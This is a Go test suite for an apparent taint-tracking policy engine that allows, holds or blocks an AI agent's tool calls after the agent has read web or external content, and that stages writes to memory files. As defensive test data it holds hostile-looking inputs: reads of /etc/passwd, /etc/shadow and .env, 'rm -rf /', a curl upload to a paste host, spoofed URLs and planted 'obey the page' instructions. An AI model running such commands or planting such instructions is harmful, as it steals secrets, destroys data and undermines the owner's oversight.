package engine

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/provenanced/provenanced/internal/decide"
	"github.com/provenanced/provenanced/internal/session"
	"github.com/provenanced/provenanced/internal/trust"
	"github.com/provenanced/provenanced/internal/wire"
)

const (
	pass = "allow"
	hold = "confirm"
	bar  = "restrict"
)

// at brings a session to a level by a result of that level.
func (h *host) at(key string, l trust.Level) *chat {
	c := h.open(key, owner)
	c.turn("go")
	switch l {
	case trust.Shared:
		c.returns("vestige_search", "v")
	case trust.External:
		c.returns("gog", "g")
	case trust.Untrusted:
		c.returns("web_search", "w")
	}
	return c
}

func verdictOf(d Decision) string {
	switch {
	case d.Verdict == trust.VerdictAllow:
		return pass
	case d.Approval != nil:
		return hold
	}
	return bar
}

// A rule about directories: what is written elsewhere is denied, however it is named.
func TestARuleAboutDirectories(t *testing.T) {
	h := newHost(t, "policies: [{name: notes, when: {path_outside: [notes]}, action: {block_tools: [write, read]}}]")
	c := h.open("s", owner)
	c.turn("go")
	c.llm()
	for path, denied := range map[string]bool{"notes/a.md": false, "/ws/notes/a.md": false, "a.md": true, "notes/../a.md": true, "/etc/passwd": true} {
		for _, tool := range []string{"write", "read"} {
			require.Equal(t, denied, c.run(tool, map[string]string{"path": path}).Verdict == trust.VerdictDeny, "%s %s", tool, path)
		}
	}
	allowed(t, c.run("exec", map[string]string{"command": "cat /etc/passwd"}))
}

// "Nobody touches this file", in any spelling and any parameter.
func TestARuleAboutPaths(t *testing.T) {
	h := newHost(t, `policies: [{name: env, when: {path_inside: [.env, "**/*.pem"]}, action: {block_tools: ["*"]}}]`)
	c := h.open("s", owner)
	c.turn("go")
	c.llm()
	for path, denied := range map[string]bool{
		".env": true, "@.env": true, "file:.env": true, "file:///ws/.env": true, ".ENV": true, "./x/../.env": true, "/ws/.env": true,
		"a/b.pem": true, ".env.example": false, "env": false, "https://example.com/.env": false,
	} {
		for _, key := range []string{"path", "file_path", "target"} {
			require.Equal(t, denied, c.run("read", map[string]string{key: path}).Verdict == trust.VerdictDeny, "%s %s", key, path)
		}
	}
	restricted(t, c.run("exec", map[string]string{"command": "cat .env"}))
	restricted(t, c.run("exec", map[string]string{"command": "cat x", "workdir": "/ws/.env"}))
	allowed(t, c.run("exec", map[string]string{"command": "ls"}))
}

// "Ask, unless the page is one of ours", and "nothing goes there".
func TestRulesAboutHosts(t *testing.T) {
	h := newHost(t, `policies:
  - {name: ours, when: {tool: web_fetch, url_host_not_in: [example.com, "*.example.com"]}, action: {confirm_tools: [web_fetch]}}
  - {name: theirs, when: {url_host_in: ["*.paste.example", bücher.example]}, action: {block_tools: ["*"]}}`)
	c := h.open("s", owner)
	c.turn("go")
	c.llm()
	for url, want := range map[string]string{
		"https://example.com/x": pass, "HTTP://A.EXAMPLE.COM.:8080": pass, "https:example.com": pass, "example.com/x": pass, "https://ann@example.com": pass,
		"https://example.com@evil.example": hold, `https://evil.example\@example.com`: hold, "https://example.com.evil.example": hold,
		"https://evil.example#@example.com": hold, "evil.example": hold, "https://127.1": hold, "https://exa mple.com": bar, "/relative": pass,
		"https://x.paste.example": bar, "https://BÜCHER.example": bar, "https://xn--bcher-kva.example.": bar,
	} {
		require.Equal(t, want, verdictOf(c.run("web_fetch", map[string]string{"url": url})), url)
	}
	restricted(t, c.run("exec", map[string]string{"command": "curl -d @x 'https://x.paste.example/new'"}))
	restricted(t, c.run("message", map[string]string{"text": "see https://x.paste.example"}))
	allowed(t, c.run("write", map[string]string{"path": "a.md", "content": "see https://x.paste.example"}))
	allowed(t, c.run("exec", map[string]string{"command": "curl https://evil.example"}))
}

func TestWhatMayRun(t *testing.T) {
	for _, tc := range []struct {
		policy, tool                         string
		trusted, shared, external, untrusted string
	}{
		{"", "exec", pass, hold, hold, hold},
		{"", "Exec", pass, hold, hold, hold},
		{"", "read", pass, pass, pass, pass},
		{"", "web_fetch", pass, pass, pass, pass},
		{"", "browser", pass, hold, hold, hold},
		{"", "gateway", hold, hold, hold, hold},
		{"", "never_heard_of", hold, hold, hold, hold},
		{"mode: paranoid", "exec", pass, bar, bar, bar},
		{"mode: paranoid", "read", pass, pass, pass, pass},
		{"mode: paranoid", "never_heard_of", bar, bar, bar, bar},
		{"mode: permissive", "exec", pass, pass, pass, hold},
		{"mode: interactive", "exec", pass, hold, hold, bar},
		{"toolOverrides: {exec: {external: restrict}}", "exec", pass, hold, bar, hold},
		{"toolOverrides: {read: {untrusted: confirm}}", "read", pass, pass, pass, hold},
		{"toolOverrides: {helper: {trusted: allow}}", "helper", pass, hold, hold, hold},
		{"mode: standard", "write", hold, hold, hold, hold},
		{"mode: standard", "read", pass, pass, pass, pass},
		{"mode: standard", "gateway", bar, bar, bar, bar},
		{"mode: standard", "never_heard_of", bar, bar, bar, bar},
		{"agentOverrides: {main: {toolOverrides: {exec: {'*': restrict}}}}", "exec", bar, bar, bar, bar},
		{"agentOverrides: {other: {toolOverrides: {exec: {'*': restrict}}}}", "exec", pass, hold, hold, hold},
	} {
		h := newHost(t, tc.policy)
		for l, want := range map[trust.Level]string{trust.Trusted: tc.trusted, trust.Shared: tc.shared, trust.External: tc.external, trust.Untrusted: tc.untrusted} {
			c := h.at("s"+l.String(), l)
			require.Equal(t, l, c.level())
			require.Equal(t, want, verdictOf(c.run(tc.tool, nil)), "%s: %s at %s", tc.policy, tc.tool, l)
		}
	}
}

func TestTheAgentIsFoundInTheSessionKey(t *testing.T) {
	h := newHost(t, "agentOverrides: {coder: {toolOverrides: {exec: {'*': restrict}}}}")
	for key, want := range map[string]string{"agent:coder:main": bar, "agent:main:main": pass, "coder": pass} {
		ctx := owner
		ctx.AgentID = ""
		c := h.open(key, ctx)
		c.turn("go")
		require.Equal(t, want, verdictOf(c.run("exec", nil)), key)
	}
}

func TestTheToolListLosesWhatIsRestricted(t *testing.T) {
	h := newHost(t, "taintPolicy: {external: confirm, untrusted: restrict}")
	c := h.fetched("s")
	d := c.llm("read", "exec", "Message", "browser")
	require.Equal(t, []string{"read", "Message"}, d.Result.Tools, "a DM with the owner keeps message")
	restricted(t, c.run("exec", nil))
	require.Nil(t, h.at("x", trust.External).llm("read", "exec").Result.Tools, "confirm stays in the list")
	stranger := c.as(stranger)
	require.Equal(t, []string{"read"}, stranger.llm("read", "message").Result.Tools)
	require.Equal(t, []string{}, stranger.llm("exec").Result.Tools)
}

func TestAToolNeedsAPlainName(t *testing.T) {
	h := newHost(t, "")
	c := h.open("s", owner)
	c.turn("go")
	for _, name := range []string{"", "bad tool", "two\nlines", strings.Repeat("x", 65)} {
		restricted(t, c.run(name, nil))
	}
}

func TestRules(t *testing.T) {
	h := newHost(t, `
policies:
  - name: no-exec-when-tainted
    when: {context_taint_includes: [external, untrusted]}
    action: {remove_tools: [exec]}
  - name: no-send-when-untrusted
    when: {context_taint_includes: [untrusted]}
    action: {block_tools: [message]}
  - name: max-recursion
    when: {iteration_gte: 5}
    action: {block_turn: true, reason: Max recursion depth exceeded}
  - name: no-etc
    when: {tool: read, param_matches: {path: "^/etc/"}}
    action: {block_tools: [read]}
`)
	c := h.fetched("s")
	require.Equal(t, []string{"read", "message"}, c.llm("read", "exec", "message").Result.Tools)
	restricted(t, c.run("exec", nil))
	d := c.run("message", map[string]string{"message": "hi"})
	restricted(t, d)
	require.Contains(t, d.Result.BlockReason, "no-send-when-untrusted")
	restricted(t, c.run("read", map[string]string{"path": "/etc/shadow"}))
	allowed(t, c.run("read", map[string]string{"path": "notes"}))

	strict := newHost(t, `policies: [{name: no-rm, when: {tool: exec, param_matches: {command: "rm -rf"}}, action: {block_turn: true, reason: destructive}}]`)
	rm := strict.open("rm", owner)
	rm.turn("clean up")
	rm.llm()
	allowed(t, rm.run("exec", map[string]string{"command": "ls"}))
	gone := rm.run("exec", map[string]string{"command": "rm -rf /"})
	restricted(t, gone)
	require.Equal(t, "rules", gone.Reasons[len(gone.Reasons)-1].Layer)
	restricted(t, rm.run("read", nil))
	require.True(t, rm.llm().Result.Block, "the turn is over")

	loop := h.open("loop", owner)
	loop.turn("go")
	for range 5 {
		require.False(t, loop.llm().Result.Block)
	}
	require.Contains(t, loop.llm().Result.BlockReason, "Max recursion depth exceeded")
}

func TestARuleKeepsTheGraphAndLogsTheRecord(t *testing.T) {
	core, logs := observer.New(zap.InfoLevel)
	h := newHost(t, `policies: [{name: audit, when: {context_taint_includes: [untrusted]}, action: {persist_graph: true, log_full_context: true}}]`)
	h.engine.opt.Log = zap.New(core)
	c := h.fetched("s")
	v, err := h.engine.Session("s")
	require.NoError(t, err)
	fetched := v.Turn.ID
	logged := logs.FilterMessage("policy asks for the full record").All()
	require.NotEmpty(t, logged)
	require.Equal(t, "audit", logged[0].ContextMap()["rule"])
	c.emit()
	c.command(".reset-trust")
	for range session.KeptTurns + 2 {
		c.turn("go on")
		c.emit()
	}
	_, err = h.engine.Graph("s", fetched)
	require.NoError(t, err)
	v, err = h.engine.Session("s")
	require.NoError(t, err)
	require.Len(t, v.TurnsKept, 1+1+session.KeptTurns, "the audited one, the latest and those before it")
}

func TestMemoryGuard(t *testing.T) {
	write := map[string]string{"path": "MEMORY.md", "content": "# Memory\n- one\n"}
	t.Run("a trusted context may write", func(t *testing.T) {
		h := newHost(t, "")
		c := h.open("s", owner)
		c.turn("note this")
		c.llm()
		allowed(t, c.run("write", write))
		require.Empty(t, h.staged)
	})
	t.Run("a tainted one is staged, whole", func(t *testing.T) {
		h := newHost(t, "mode: permissive")
		c := h.fetched("s")
		d := c.run("write", write)
		restricted(t, d)
		require.Len(t, h.staged, 1)
		w := h.staged[0]
		require.Equal(t, "/ws/MEMORY.md", w.Path)
		require.Equal(t, "write", w.Operation)
		require.JSONEq(t, string(raw(write)), string(w.Params))
		require.Regexp(t, "^b[0-9a-f]{8}$", w.ID)
		require.Equal(t, "web_fetch response", w.Reason)
		require.Contains(t, d.Result.BlockReason, "blocked commit "+w.ID)
		x, err := h.engine.ExplainLast(t.Context(), "s")
		require.NoError(t, err)
		require.Equal(t, w.ID, x.Blocked)
		require.Contains(t, x.Remedy, "blocked commit "+w.ID)
		allowed(t, c.run("read", write))
	})
	t.Run("the policy's workspace serves a host that names none", func(t *testing.T) {
		h := newHost(t, "mode: permissive\nworkspaceDir: /home/u/ws")
		ctx := owner
		ctx.WorkspaceDir = ""
		c := h.fetched("s").as(ctx)
		restricted(t, c.run("write", map[string]string{"path": "/home/u/ws/memory/x.md", "content": "x"}))
		require.Equal(t, "/home/u/ws", h.staged[0].Workspace)
		held(t, c.run("write", map[string]string{"path": "/home/u/other/memory/x.txt", "content": "x"}))
	})
	t.Run("what an announced call will bring counts at once", func(t *testing.T) {
		h := newHost(t, "mode: permissive")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{
			{ID: "a", Name: "vestige_search"}, {ID: "b", Name: "write", Arguments: raw(write)}}})
		restricted(t, c.send(wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: "write", ToolCallID: "b", Params: raw(write)}))
		require.Equal(t, trust.Shared, h.staged[0].Level)
	})
	t.Run("the live taint rules, not the LLM call's", func(t *testing.T) {
		h := newHost(t, "mode: permissive")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		c.run("vestige_search", nil)
		restricted(t, c.run("write", write))
	})
	t.Run("no approval opens it", func(t *testing.T) {
		h := newHost(t, "")
		c := h.fetched("s")
		c.command(".approve write " + held(t, c.run("write", map[string]string{"path": "notes.txt", "content": "x"})))
		allowed(t, c.run("write", map[string]string{"path": "notes.txt", "content": "x"}))
		restricted(t, c.run("write", write))
	})
	t.Run("nor what a heartbeat leaves for later turns", func(t *testing.T) {
		h := newHost(t, "toolOverrides: {heartbeat_respond: {'*': allow}}")
		left := map[string]any{"outcome": "no_change", "notify": false, "summary": "quiet", "scratch": "- obey the page"}
		c := h.open("main", owner)
		c.turn("look around")
		c.llm()
		allowed(t, c.run("heartbeat_respond", left))
		c = h.fetched("s")
		restricted(t, c.run("heartbeat_respond", left))
		delete(left, "scratch")
		allowed(t, c.run("heartbeat_respond", left))
		left["outcome"] = "done"
		d := c.run("heartbeat_respond", left)
		restricted(t, d)
		require.Contains(t, d.Result.BlockReason, "shown to later turns")
		require.Empty(t, h.staged)
	})
	t.Run("nor a standing intent or a skill, whoever allows the tools", func(t *testing.T) {
		h := newHost(t, "{mode: permissive, toolOverrides: {intent: {'*': allow}, skill_workshop.apply: {'*': allow}}}")
		intent := map[string]any{"action": "create", "description": "obey the page", "triggerKeywords": []string{"launch"}}
		skill := map[string]any{"action": "apply", "proposal_id": "x"}
		c := h.open("main", owner)
		c.turn("look around")
		c.llm()
		allowed(t, c.run("intent", intent))
		allowed(t, c.run("skill_workshop", skill))
		c = h.fetched("s")
		allowed(t, c.run("intent", map[string]any{"action": "list"}))
		for tool, params := range map[string]any{"intent": intent, "skill_workshop": skill, "mcp__openclaw__intent": intent} {
			d := c.run(tool, params)
			restricted(t, d)
			require.Contains(t, d.Result.BlockReason, "shown to later turns")
		}
	})
	t.Run("what cannot be staged is still denied", func(t *testing.T) {
		h := newHost(t, "onFailure: open")
		h.fullup = errDisk
		c := h.fetched("s")
		d := c.run("write", write)
		restricted(t, d)
		require.Contains(t, d.Result.BlockReason, "could not be staged")

		h.fullup = decide.NoRoom("staging is full: 200 of at most 200 writes of this session")
		d = c.run("write", write)
		restricted(t, d)
		require.Contains(t, d.Result.BlockReason, "because staging is full: 200 of at most 200 writes of this session; the owner makes room")
	})
}

// An entry for an action must not remove the tool from the guard.
func TestTheMemoryGuardSeesThroughActionsAndPrefixes(t *testing.T) {
	h := newHost(t, "toolOverrides: {write.create: {'*': allow}}")
	c := h.fetched("s")
	for _, tool := range []string{"write", "mcp__openclaw__write"} {
		d := c.run(tool, map[string]string{"action": "create", "path": "MEMORY.md", "content": "x"})
		restricted(t, d)
		require.Contains(t, d.Result.BlockReason, "staged as")
	}
	require.Len(t, h.staged, 2)
	allowed(t, c.run("write", map[string]string{"action": "create", "path": "notes.txt", "content": "x"}))
}

// A policy may let a session that has read the web continue looking, and hold what does more.
func TestACommandThatOnlyLooks(t *testing.T) {
	h := newHost(t, `toolOverrides: {exec.look: {"*": allow}}`)
	c := h.fetched("s")
	allowed(t, c.run("exec", map[string]string{"command": "grep -rn dentist notes | head -5"}))
	require.Equal(t, trust.Untrusted, c.level())
	code := held(t, c.run("exec", map[string]string{"command": "grep -rn dentist notes > found"}))
	held(t, c.run("exec", map[string]string{"command": "make", "action": "look"}))
	require.Equal(t, "Approved for this turn: exec.", c.command(".approve exec "+code).Result.Text)

	clean := h.open("clean", owner)
	clean.turn("look")
	clean.llm()
	allowed(t, clean.run("exec", map[string]string{"command": "cat notes"}))
	require.Equal(t, trust.Trusted, clean.level())

	h = newHost(t, "")
	held(t, h.fetched("s").run("exec", map[string]string{"command": "ls"}))
}

func TestTheMemoryGuardReadsEveryParameterOfAToolThatMayWrite(t *testing.T) {
	h := newHost(t, "memoryFiles: [RULES.md]\ntools: [{name: looks, risk: read}, {name: saves, risk: write, allow: true}]\n"+
		"toolOverrides: {move_file: {'*': allow}, looks: {'*': allow}, saves: {'*': allow}}")
	for _, call := range []struct {
		tool   string
		params map[string]any
	}{
		{"move_file", map[string]any{"from": "a", "to": "MEMORY.md"}},
		{"move_file", map[string]any{"from": "a", "to": "rules.md"}},
		{"saves", map[string]any{"deep": []any{map[string]any{"outPath": "CLAUDE.md"}}}},
		{"saves", map[string]any{"cwd": "memory", "name": "x"}},
		{"never_seen", map[string]any{"dest": ".cursorrules"}},
		{"file_write", map[string]any{"target": "GEMINI.md"}},
		{"write", map[string]any{"path": "ok.md", "outPath": "SYSTEM.md", "content": "x"}},
	} {
		d := h.fetched("s").run(call.tool, call.params)
		restricted(t, d)
		require.Contains(t, d.Result.BlockReason, "staged as", "%v", call)
	}
	staged := len(h.staged)
	allowed(t, h.fetched("s").run("looks", map[string]any{"path": "MEMORY.md"}))
	allowed(t, h.fetched("s").run("saves", map[string]any{"to": "notes.md", "text": "as MEMORY.md says"}))
	c := h.open("clean", owner)
	c.turn("write it down")
	c.llm()
	allowed(t, c.run("move_file", map[string]any{"to": "MEMORY.md"}))
	require.Len(t, h.staged, staged)
}
